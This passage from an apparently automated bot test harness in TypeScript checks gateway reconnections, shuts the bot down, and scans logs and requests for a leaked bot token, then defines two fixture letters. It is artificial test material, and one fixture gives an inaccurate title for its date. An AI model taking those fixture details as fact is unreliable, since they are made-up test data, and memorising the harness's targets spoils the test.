          section: CONCURRENCY, metric: 'gateway reconnections during the updates (the bot resumed / identified again)', value: `${emu.resumeCount - resumesBefore} / ${emu.identifyCount - identifiesBefore}`, unit: '',
          target: '0 / 0', met: emu.resumeCount === resumesBefore && emu.identifyCount === identifiesBefore,
          note: 'none was asked for by the emulator here: a reconnection means the bot dropped its own connection',
        },
      ];
    }
  } finally {
    if (bot && bot.exitCode === null) {
      const child = bot;
      const exited = new Promise((r) => child.once('exit', r));
      child.kill('SIGTERM');
      await Promise.race([exited, sleep(30_000)]);
      if (child.exitCode === null && child.signalCode === null) child.kill('SIGKILL');
    }
    await emu.stop();
    if (partial) logLines.push(partial);
    writeFileSync(join(root, 'bot.log'), logLines.join('\n'));
  }

  // The token: never in a log line, a message body, or an error the emulator returned.
  const inLogs = logLines.filter((l) => l.includes(TOKEN)).length;
  const bodies = emu.requests.filter((r) => JSON.stringify(r.body ?? '').includes(TOKEN) || r.files.some((f) => f.data.includes(TOKEN)) || JSON.stringify(r.response ?? '').includes(TOKEN) || r.url.includes(TOKEN)).length;
  const inHeaders = emu.requests.filter((r) => r.headers.authorization?.includes(TOKEN)).length;
  figures.push({
    section: ABUSE, metric: 'bot token in logs, request bodies or error messages', value: inLogs + bodies, unit: 'occurrences', target: '0', met: inLogs + bodies === 0,
    note: `grep of every line the bot and \`register\` wrote (${logLines.length} lines, LOG_LEVEL debug, errors included) and of every request's URL, body, files and response (${emu.requests.length} requests); the token was sent, as it must be, in ${inHeaders} Authorization headers and the gateway IDENTIFY/RESUME`,
  });
  return figures;
};

const LIGHTHOUSE_LETTER = (mentions: string) => `Tallinn, 3 April 2017

Dear Commissioner,

The lighthouse keepers of Saaremaa asked me to forward their petition to ${mentions}, so that every member of the committee reads it before the vote.

Yours sincerely,

Kaja Tamm
`;

const OBSERVATORY_LETTER = `Lyon, 9 September 2017

Mr Bernard Cazeneuve
Prime Minister

Dear Prime Minister,

I write about the observatory at Fourvière: its great lens was cracked during the storm, and the municipal engineers estimate that the repair of the observatory lens will take eleven weeks.

Yours sincerely,

Odile Marchetti
`;
